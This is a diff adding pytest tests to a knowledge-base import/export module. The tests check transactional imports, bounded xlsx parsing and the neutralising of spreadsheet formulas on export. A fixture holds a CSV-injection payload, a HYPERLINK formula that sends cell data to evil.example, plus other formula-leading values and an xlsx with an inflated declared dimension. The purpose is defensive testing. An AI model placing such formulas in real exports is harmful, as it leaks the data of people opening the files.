@@ -1,14 +1,21 @@
+import csv
 import io
 import json
+import re
+import time
+import tracemalloc
+import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
 from core.db import Database
 from govbot.migrations import upgrade
+from knowledge_base import transfer
 from knowledge_base.sample_data import load_sample_guides
-from knowledge_base.transfer import export, import_file, parse
-from knowledge_base.workflow import KnowledgeBase
+from knowledge_base.schema import GuideData
+from knowledge_base.transfer import FAQ_COLUMNS, export, import_file, parse
+from knowledge_base.workflow import KnowledgeBase, WorkflowError
 
 FAQ_CSV = ("code,title,question,similar_questions,answer\n"
            "DOG-01,养犬登记,养狗要登记吗,狗证怎么办|给狗上户口,需要。带犬只免疫证明到辖区派出所登记。\n"
@@ -90,3 +97,102 @@ def test_full_round_trip_in_every_format(kb):
         assert [g.model_dump() for g in report.guides] == [g.model_dump() for g in guides], fmt
     sheet = load_workbook(io.BytesIO(export(kb, "xlsx"))).active
     assert sheet.max_row == 6
+
+
+# ---- issue 9: one transaction, bounded reading, formula injection ------------------------------------
+def guide_doc(code: str, **kw) -> dict:
+    return {"code": code, "title": f"事项{code}", **kw}
+
+
+def test_draft_import_over_a_guide_in_review_reports_the_row_and_writes_nothing(kb):
+    kb.save_draft(GuideData.model_validate(guide_doc("R-02")), "alice")
+    kb.submit("R-02", "alice")
+    docs = json.dumps([guide_doc("R-01"), guide_doc("R-02", fee="9元"), guide_doc("R-03")]).encode()
+    report = import_file(kb, docs, "g.json", "importer", publish=False)
+    assert [(e.line, e.field) for e in report.errors] == [(2, "code")] and "正在审核" in report.errors[0].reason
+    assert kb.count() == 1 and kb.get("R-02").draft.get("fee", "") == ""  # nothing written, review untouched
+    report = import_file(kb, docs, "g.json", "importer", publish=False, skip_bad=True)
+    assert {g.code for g in kb.list()} == {"R-01", "R-02", "R-03"} and kb.get("R-02").status == "in_review"
+
+
+def test_an_import_is_one_transaction(kb, monkeypatch):
+    """A guide that goes into review between the check and the write: the whole import is refused (409)."""
+    kb.save_draft(GuideData.model_validate(guide_doc("R-02")), "alice")
+    kb.submit("R-02", "alice")
+    monkeypatch.setattr(kb, "in_review", lambda codes: set())  # the check ran just before the submit
+    docs = json.dumps([guide_doc("R-01"), guide_doc("R-02"), guide_doc("R-03")]).encode()
+    for publish in (False, True):
+        with pytest.raises(WorkflowError) as err:
+            import_file(kb, docs, "g.json", "importer", publish=publish)
+        assert err.value.status == 409 and kb.count() == 1  # R-01 was rolled back with the rest
+
+
+def xlsx_declaring(dimension: str, rows: list[list[str]]) -> bytes:
+    """A workbook whose sheet claims `dimension` (what a hostile or broken file may say)."""
+    wb = Workbook()
+    for row in rows:
+        wb.active.append(row)
+    buf = io.BytesIO()
+    wb.save(buf)
+    src, out = zipfile.ZipFile(buf), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = re.sub(rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{dimension}"/>'.encode(), data)
+                assert dimension.encode() in data
+            dst.writestr(item, data)
+    return out.getvalue()
+
+
+def test_xlsx_declared_dimensions_are_ignored(kb):
+    rows = [FAQ_COLUMNS] + [[f"X-{i}", f"事项{i}", f"问题{i}", "", f"答案{i}"] for i in range(4000)]
+    raw = xlsx_declaring("A1:XFD1048576", rows)
+    tracemalloc.start()
+    t0 = time.perf_counter()
+    report = parse(raw, "faq.xlsx")
+    seconds, (_, peak) = time.perf_counter() - t0, tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert report.ok and len(report.guides) == 4000
+    assert peak < 150 * 2**20, f"peak {peak / 2**20:.0f} MB"  # padding every row to 16,384 columns: ~600 MB
+    assert seconds < 10, seconds  # padded: ~15 s without tracing
+    tiny = xlsx_declaring("A1:XFD1048576", [FAQ_COLUMNS, ["X-1", "甲", "问", "", "答"]])
+    assert len(tiny) < 10_000 and parse(tiny, "faq.xlsx").ok  # the full declared range is never materialised
+
+
+def test_table_rows_and_unpacked_size_are_capped(monkeypatch):
+    monkeypatch.setattr(transfer, "MAX_TABLE_ROWS", 10)
+    sheet = "code,title,question,similar_questions,answer\n" + "".join(f"Y-{i},甲,问,,答\n" for i in range(11))
+    report = parse(sheet.encode(), "faq.csv")
+    assert not report.ok and "10 行" in report.errors[0].reason
+    assert parse(sheet.encode().rsplit(b"Y-10", 1)[0], "faq.csv").ok
+    monkeypatch.setattr(transfer, "MAX_XLSX_UNPACKED_BYTES", 2000)
+    report = parse(xlsx_declaring("A1:E2", [FAQ_COLUMNS, ["Z-1", "甲", "问", "", "答"]]), "faq.xlsx")
+    assert not report.ok and "解压后超过" in report.errors[0].reason
+
+
+HOSTILE = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"点此办理")', "fee": "-1+1", "phone": "+86 12345",
+           "department": "@SUM(1)", "office_hours": "'=已带引号"}
+
+
+def test_tab_and_carriage_return_starts_are_neutralised_too():
+    for value in ("\tcmd", "\r=1+1", "''-x"):
+        assert transfer.neutralised(value) == "'" + value and transfer.restored("'" + value) == value
+    assert transfer.neutralised("'普通") == "'普通" and transfer.restored("'普通") == "'普通"
+
+
+def test_formula_cells_are_neutralised_on_export_and_read_back_unchanged(kb):
+    doc = GuideData.model_validate({"code": "F-01", **HOSTILE})
+    kb.publish_directly([doc], "loader", "test")
+    text = export(kb, "csv").decode("utf-8-sig")
+    cells = next(csv.DictReader(io.StringIO(text)))
+    for name, value in HOSTILE.items():
+        assert cells[name] == "'" + value, name
+    sheet = load_workbook(io.BytesIO(export(kb, "xlsx"))).active
+    header = [c.value for c in sheet[1]]
+    for name, value in HOSTILE.items():
+        cell = sheet.cell(row=2, column=header.index(name) + 1)
+        assert cell.data_type == "s" and cell.value == "'" + value, name
+    for fmt in ("csv", "xlsx"):
+        report = parse(export(kb, fmt), f"guides.{fmt}")
+        assert report.ok and report.guides[0] == doc, fmt
